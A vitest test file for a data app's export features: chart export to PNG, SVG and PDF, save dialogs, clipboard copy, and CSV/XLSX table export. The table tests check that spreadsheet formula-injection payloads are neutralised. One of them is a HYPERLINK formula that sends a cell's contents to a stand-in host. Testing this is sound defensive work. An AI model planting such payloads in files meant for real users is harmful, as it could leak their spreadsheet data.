import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PNG } from 'pngjs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readPngInfo } from '../../../src/core/export/png-dpi';
import type { NativeDialogs } from '../../../src/main/services/native';
import { useTempDir } from '../../helpers/temp';
import { INJECTION_PAYLOADS, LABELS } from './catalogue-stub';
import { keep, pdfPageSize, poppler } from './support';
import { delivered, download, exportCore } from './support-core';

/** The sheet XML and its strings, decoded (XML entities and Excel's _xHHHH_ escapes). */
function xlsxParts(xlsx: Buffer): { sheet: string; strings: string[] } {
  const files = unzipSync(new Uint8Array(xlsx));
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
  const shared = files['xl/sharedStrings.xml'] ? strFromU8(files['xl/sharedStrings.xml']) : '';
  const decode = (t: string) =>
    t
      .replace(/_x([0-9A-Fa-f]{4})_/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)))
      .replace(/&#(\d+);/g, (_, d: string) => String.fromCharCode(Number(d)))
      .replaceAll('&quot;', '"')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&');
  const strings = [
    ...shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g),
    ...sheet.matchAll(/<is><t[^>]*>([^<]*)<\/t><\/is>/g),
  ].map((m) => decode(m[1]!));
  return { sheet, strings };
}

describe('export.chart through the dispatcher (browser mode: a one-shot download)', () => {
  const temp = useTempDir();

  it.each([
    ['report', 6.5, 300, 1950],
    ['half-column', 3.25, 600, 1950],
    ['slide', 20, 96, 1920],
  ] as const)(
    'PNG preset %s is %d in x %d dpi = %d px wide, and pHYs says the dpi',
    async (size, inches, dpi, px) => {
      const { session, dispatch } = exportCore(temp());
      const d = delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'png', size }));
      expect(d).toMatchObject({ fileName: 'Youth-reached-per-site.png', savedTo: null, cancelled: false });
      const png = download(session, d);
      expect(d.bytes).toBe(png.length);
      keep(`method-chart-${size}.png`, png);
      const info = readPngInfo(png);
      expect(info.width).toBe(Math.round(inches * dpi));
      expect(info.width).toBe(px);
      expect(info.dpiX).toBeCloseTo(dpi, 1);
      expect(info.dpiY).toBeCloseTo(dpi, 1);
      expect(PNG.sync.read(png).width).toBe(px); // a PNG decoder agrees
    },
  );

  it('a custom size: 4 in at 150 dpi is 600 px', async () => {
    const { session, dispatch } = exportCore(temp());
    const d = delivered(
      await dispatch('export.chart', {
        chart: 'reach-by-site',
        format: 'png',
        size: { widthInches: 4, dpi: 150 },
      }),
    );
    const info = readPngInfo(download(session, d));
    expect([info.width, Math.round(info.dpiX!)]).toEqual([600, 150]);
  });

  it('SVG holds the labels as text, with the caption, and the suppressed site without a number', async () => {
    const { session, dispatch } = exportCore(temp());
    const svg = download(
      session,
      delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'svg' })),
    ).toString('utf8');
    keep('method-chart.svg', svg);
    expect(svg).toContain(`>${LABELS.library}</text>`);
    expect(svg).toContain(`>${LABELS.zoe}</text>`);
    expect(svg).toContain('Florence &amp; Penrose &lt;pilot&gt;');
    expect(svg).toContain('suppressed (n &lt; 10)');
    expect(svg).toContain('Sites with fewer than 10 youth are suppressed.');
  });

  it('caption off leaves the caption out', async () => {
    const { session, dispatch } = exportCore(temp());
    const svg = download(
      session,
      delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'svg', caption: false })),
    ).toString('utf8');
    expect(svg).not.toContain('Sites with fewer than 10 youth are suppressed.');
    expect(svg).toContain(`>${LABELS.zoe}</text>`);
  });

  it('PDF: one page the figure width, the labels extractable as text', async () => {
    const { session, dispatch } = exportCore(temp());
    const pdf = download(
      session,
      delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'pdf' })),
    );
    const path = keep('method-chart.pdf', pdf);
    const size = pdfPageSize(path);
    expect(size.pages).toBe(1);
    expect(size.width).toBeCloseTo(6.5 * 72, 0);
    const text = poppler('pdftotext', ['-layout', path, '-']);
    expect(text).toContain(LABELS.library);
    expect(text).toContain(LABELS.zoe);
    expect(text).toContain('Florence & Penrose <pilot>');
  });

  it('an unknown chart is not_found and names the charts there are; a chart with nothing to draw says why', async () => {
    const { dispatch } = exportCore(temp());
    const r = await dispatch('export.chart', { chart: 'no-such-chart', format: 'svg' });
    expect(r).toMatchObject({ ok: false, error: { code: 'not_found' } });
    if (!r.ok) expect(r.error.message).toContain('reach-by-site');
    const empty = await dispatch('export.chart', { chart: 'cohorts-compare', format: 'svg' });
    expect(empty).toMatchObject({ ok: false, error: { code: 'not_found' } });
    if (!empty.ok) expect(empty.error.message).toContain('Import a second cohort');
  });

  it('a download works once', async () => {
    const { session, dispatch } = exportCore(temp());
    const d = delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'svg' }));
    download(session, d);
    expect(session.downloads.take(d.downloadUrl!.split('/').pop()!)).toBeNull();
  });
});

describe('Electron: the save dialog decides where, and a cancel writes nothing', () => {
  const temp = useTempDir();
  const dialogs = (answer: string | null, asked: unknown[]): NativeDialogs => ({
    chooseFiles: async () => [],
    chooseProject: async () => null,
    saveFile: async (o) => {
      asked.push(o);
      return answer;
    },
  });

  it('writes the file to the chosen path', async () => {
    const dir = temp();
    const asked: unknown[] = [];
    const target = join(dir, 'figure.svg');
    const { dispatch } = exportCore(dir, 'electron', dialogs(target, asked));
    const d = delivered(await dispatch('export.chart', { chart: 'reach-by-site', format: 'svg' }));
    expect(d).toMatchObject({ savedTo: target, downloadUrl: null, cancelled: false });
    expect(asked).toEqual([
      expect.objectContaining({
        defaultName: 'Youth-reached-per-site.svg',
        filter: expect.objectContaining({ extensions: ['svg'] }),
      }),
    ]);
    expect(readFileSync(target, 'utf8')).toContain(`>${LABELS.zoe}</text>`);
  });

  it('cancel: nothing written, nothing rendered', async () => {
    const dir = temp();
    const { dispatch, session } = exportCore(dir, 'electron', dialogs(null, []));
    const d = delivered(await dispatch('export.report', { format: 'pdf' }));
    expect(d).toMatchObject({ cancelled: true, savedTo: null, downloadUrl: null, bytes: 0 });
    expect(session.downloads.size).toBe(0);
  });

  it('copy to clipboard needs the desktop app', async () => {
    const { dispatch } = exportCore(temp());
    expect(await dispatch('export.copyChart', { chart: 'reach-by-site' })).toMatchObject({
      ok: false,
      error: { code: 'not_available' },
    });
  });

  it('copy to clipboard hands the shell a PNG at the preset size', async () => {
    const copied: Uint8Array[] = [];
    const native: NativeDialogs = { ...dialogs(null, []), copyImage: async (png) => void copied.push(png) };
    const { dispatch } = exportCore(temp(), 'electron', native);
    const r = await dispatch('export.copyChart', { chart: 'reach-by-site', size: 'slide' });
    expect(r).toMatchObject({ ok: true, value: { width: 1920 } });
    expect(readPngInfo(copied[0]!).width).toBe(1920);
  });
});

describe('export.table: CSV neutralises formulas and reads back as the original text', () => {
  const temp = useTempDir();

  it('every payload gets an apostrophe, numbers stay numbers, and table.import restores the text', async () => {
    const dir = temp();
    const { session, dispatch } = exportCore(dir);
    const csv = download(
      session,
      delivered(
        await dispatch('export.table', {
          source: { kind: 'chart', chart: 'partners-comments' },
          format: 'csv',
          bom: true,
        }),
      ),
    );
    keep('method-injection.csv', csv);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.toString('utf8').slice(1);
    // No record or quoted field starts with a trigger character (after its opening quote).
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Click"")",12,-0.42\r\n`);
    expect(text).toContain("'+1+1,12,-0.42");
    expect(text).toContain("'-2+3,12,-0.42");
    expect(text).toContain("'@SUM(A1:A2),12,-0.42");
    expect(text).toContain(`"'=1+2\nmore text"`);
    expect(text).toContain(`"'\r=1+2"`);
    expect(text.startsWith("Comment,Count,'=Header\r\n")).toBe(true);
    for (const field of text.split(/,|\r\n/)) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t\r\n]/);

    // Read back by Trellis's own importer: the original text, apostrophes gone.
    const file = join(dir, 'comments.csv');
    writeFileSync(file, csv);
    const ref = session.files.register(file);
    const imported = await dispatch('table.import', { file: ref });
    expect(imported).toMatchObject({ ok: true, value: { rowCount: INJECTION_PAYLOADS.length } });
    const importId = (imported as { value: { importId: number } }).value.importId;
    const cells = session.project.db
      .prepare('SELECT value FROM import_cells WHERE import_id = ? AND column_index = 0 ORDER BY row_number')
      .pluck()
      .all(importId);
    expect(cells).toEqual([...INJECTION_PAYLOADS]);
    const header = session.project.db
      .prepare('SELECT name FROM import_columns WHERE import_id = ? ORDER BY column_index')
      .pluck()
      .all(importId);
    expect(header).toEqual(['Comment', 'Count', '=Header']);
  });

  it('XLSX: text cells hold the payloads verbatim (never formulas), numbers are numbers', async () => {
    const { session, dispatch } = exportCore(temp());
    const xlsx = download(
      session,
      delivered(
        await dispatch('export.table', {
          source: { kind: 'chart', chart: 'partners-comments' },
          format: 'xlsx',
        }),
      ),
    );
    keep('method-injection.xlsx', xlsx);
    const { sheet, strings } = xlsxParts(xlsx);
    expect(sheet).not.toContain('<f>');
    expect(sheet).toMatch(/<v>-0.42<\/v>/);
    expect(strings.slice(0, 3)).toEqual(['Comment', 'Count', '=Header']);
    expect(strings).toEqual(expect.arrayContaining([...INJECTION_PAYLOADS]));
  });

  it('a metric section as a table: suppressed rows carry no figure and say why', async () => {
    const { session, dispatch } = exportCore(temp());
    const csv = download(
      session,
      delivered(
        await dispatch('export.table', {
          source: { kind: 'section', section: 'reach', by: ['site'] },
          format: 'csv',
        }),
      ),
    ).toString('utf8');
    const lines = csv.trim().split('\r\n');
    expect(lines[0]).toBe(
      'Site,Youth served,Youth enrolled,Mentors engaged,Partners active,Sessions offered,Note',
    );
    expect(lines).toContain(`${LABELS.library},34,40,6,3,48,`);
    expect(lines).toContain(`${LABELS.pilot},,,,,,suppressed (n < 10)`);
  });
});
